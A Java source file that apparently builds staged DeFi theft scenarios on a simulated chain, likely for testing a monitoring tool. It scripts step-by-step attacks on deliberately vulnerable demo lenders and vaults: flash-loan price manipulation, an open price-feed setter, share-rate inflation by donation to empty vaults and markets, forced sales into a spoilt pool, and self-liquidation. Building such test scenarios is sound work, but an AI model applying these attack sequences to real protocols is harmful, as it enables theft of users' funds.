package io.tocsin.app.demo;

import static io.tocsin.app.demo.HonestWorld.later;
import static io.tocsin.app.demo.HonestWorld.step;
import static io.tocsin.app.demo.StagedScene.all;
import static io.tocsin.app.demo.StagedScene.approve;
import static io.tocsin.app.demo.StagedScene.thug;
import static io.tocsin.app.demo.StagedScene.transfer;

import io.tocsin.app.demo.HonestWorld.Person;
import io.tocsin.app.demo.StagedScene.Loot;
import io.tocsin.app.demo.StagedScene.Robbery;
import io.tocsin.base.Address;
import java.math.BigInteger;
import java.util.ArrayList;
import java.util.List;

/** Thefts by prices, shares and positions that are worth less than they seem. */
final class StagedPrice {
  private final StagedScene scene;
  private final HonestWorld world;

  StagedPrice(StagedScene scene) {
    this.scene = scene;
    this.world = scene.world();
  }

  private Address sister(int dollars) {
    Deployer deployer = world.deployer();
    Address lender =
        deployer.deploy(
            Artifact.own("SisterLender"),
            deployer.address(),
            world.token(),
            world.dollar(),
            world.pair());
    world.give(lender, DemoChain.whole(dollars), BigInteger.ZERO);
    return lender;
  }

  Robbery spotPriceByFlashLoan() {
    Address lender = sister(200_000);
    Person thief = world.person(BigInteger.ZERO, BigInteger.ZERO);
    Address attack = world.create(thief, Artifact.own("SpotAttack"), world.market());
    return scene.rob(
        thief,
        new Loot(lender, world.dollar()),
        () ->
            world.call(
                thief,
                attack,
                "attack(address,uint256,uint256)",
                lender,
                DemoChain.whole(4_000_000),
                DemoChain.whole(20)));
  }

  private List<List<Object>> pledge(Address lender, BigInteger tokens, BigInteger dollars) {
    return List.of(
        approve(world.token(), lender),
        step(lender, "deposit(uint256)", tokens),
        step(lender, "borrow(uint256)", dollars));
  }

  /** Buys for {@code stake}, pledges {@code tokens} of it for {@code dollars}, sells the rest. */
  private List<List<Object>> pumped(
      Person thief, Address lender, BigInteger stake, int tokens, int dollars) {
    var plan = scene.new Plan(world.pair(), thief, world.dollar());
    BigInteger pledged = DemoChain.whole(tokens);
    List<List<Object>> buy = plan.sell(world.dollar(), stake, world.token());
    List<List<Object>> sell =
        plan.sell(world.token(), plan.bought.subtract(pledged), world.dollar());
    return all(List.of(buy, pledge(lender, pledged, DemoChain.whole(dollars)), sell));
  }

  Robbery spotPriceByFlashSwap() {
    Address lender = sister(580_000);
    Person thief = scene.thief();
    BigInteger loan = DemoChain.whole(800_000);
    List<List<Object>> within = new ArrayList<>(pumped(thief, lender, loan, 200, 580_000));
    within.add(transfer(world.dollar(), world.otherPair(), DemoChain.whole(802_500)));
    return scene.run(
        thief,
        lender,
        List.of(
            world.payOut(
                world.otherPair(), world.dollar(), loan, thief.contract(), later(within))));
  }

  Robbery balanceRatio() {
    Address lender =
        scene.richVictim(200_000, "BalanceLender", world.token(), world.dollar(), world.pair());
    Person thief = scene.thief();
    BigInteger loan = DemoChain.whole(4_000_000);
    return scene.run(
        thief,
        lender,
        List.of(
            scene.flash(thief, world.dollar(), loan, pumped(thief, lender, loan, 20, 200_000))));
  }

  /** Anybody may set the price. */
  Robbery openFeed() {
    Address feed = scene.victim("OpenFeed", BigInteger.valueOf(2_000_00000000L));
    Address lender = scene.richVictim(500_000, "FeedLender", world.token(), world.dollar(), feed);
    Person thief = scene.thief();
    world.give(thief.contract(), BigInteger.ZERO, DemoChain.whole(1));
    List<List<Object>> steps = new ArrayList<>();
    steps.add(step(feed, "setPrice(int256)", BigInteger.TEN.pow(15)));
    steps.addAll(pledge(lender, DemoChain.whole(1), DemoChain.whole(500_000)));
    return scene.run(thief, lender, steps);
  }

  /** Who gives to an empty vault makes the rate of a debt round to nothing. */
  Robbery emptyVault() {
    Address receipt = world.account(world.market(), 8, "getReserveData(address)", world.dollar());
    Address vault = scene.victim("ShareVault", world.dollar(), world.market(), receipt);
    Address lender = scene.richVictim(1_000_000, "RateLender", world.dollar(), vault);
    Person thief = scene.thief();
    return scene.run(
        thief,
        lender,
        List.of(
            scene.flash(
                thief,
                world.dollar(),
                DemoChain.whole(6_000),
                List.of(
                    approve(world.dollar(), vault),
                    step(vault, "deposit(uint256,address)", BigInteger.ONE, thief.contract()),
                    transfer(world.dollar(), vault, DemoChain.whole(5_000)),
                    approve(vault, lender),
                    step(lender, "deposit(uint256)", BigInteger.ONE),
                    step(lender, "borrow(uint256)", DemoChain.whole(1_000_000))))));
  }

  /** Two shares are made dear by a gift, which one of them takes out again. */
  Robbery emptyMarket() {
    Address market = scene.richVictim(300_000, "ShareMarket", world.token(), world.dollar());
    Person thief = scene.thief();
    world.give(thief.contract(), BigInteger.ZERO, DemoChain.whole(1));
    BigInteger gift = DemoChain.whole(499);
    return scene.run(
        thief,
        market,
        List.of(
            scene.flash(
                thief,
                world.token(),
                DemoChain.whole(500),
                List.of(
                    approve(world.token(), market),
                    step(market, "mint(uint256)", BigInteger.TWO),
                    transfer(world.token(), market, gift),
                    step(market, "borrow(uint256)", DemoChain.whole(300_000)),
                    step(market, "redeemUnderlying(uint256)", gift)))));
  }

  /** Somebody is made to sell where the price was spoilt before. */
  Robbery forcedSale() {
    Address compounder = scene.victim("Compounder", world.token(), world.pair());
    BigInteger harvest = DemoChain.whole(300);
    world.give(compounder, BigInteger.ZERO, harvest);
    Person thief = scene.thief();
    BigInteger loan = DemoChain.whole(20_000);
    var plan = scene.new Plan(world.pair(), thief, world.dollar());
    List<List<Object>> sell = plan.sell(world.token(), loan, world.dollar());
    BigInteger dollars = plan.bought;
    plan.sold(false, harvest);
    List<List<Object>> buy = plan.sell(world.dollar(), dollars, world.token());
    return scene.run(
        thief,
        new Loot(compounder, world.token()),
        List.of(
            scene.flash(
                thief,
                world.token(),
                loan,
                all(List.of(sell, List.of(step(compounder, "harvest()")), buy)))));
  }

  /** Gives collateral away until he is unsound, and liquidates himself at a discount. */
  Robbery selfLiquidation() {
    Address lender = scene.richVictim(1_000_000, "SlackLender", world.dollar());
    Person thief = scene.thief();
    Address second = Deployer.created(thief.contract(), 1);
    BigInteger out = DemoChain.whole(3_000_000);
    List<List<Object>> others =
        List.of(
            step(lender, "liquidate(address)", thief.contract()),
            step(lender, "withdraw(uint256)", out),
            transfer(world.dollar(), thief.contract(), out));
    return scene.run(
        thief,
        lender,
        List.of(
            scene.flash(
                thief,
                world.dollar(),
                DemoChain.whole(2_000_000),
                List.of(
                    step(thief.contract(), "spawn(bytes)", thug(thief.contract())),
                    approve(world.dollar(), lender),
                    step(lender, "deposit(uint256)", DemoChain.whole(2_000_000)),
                    step(lender, "leverage(uint256)", DemoChain.whole(20_000_000)),
                    step(lender, "donateToReserves(uint256)", DemoChain.whole(3_000_000)),
                    step(second, "run((address,uint256,bytes)[])", others)))));
  }
}
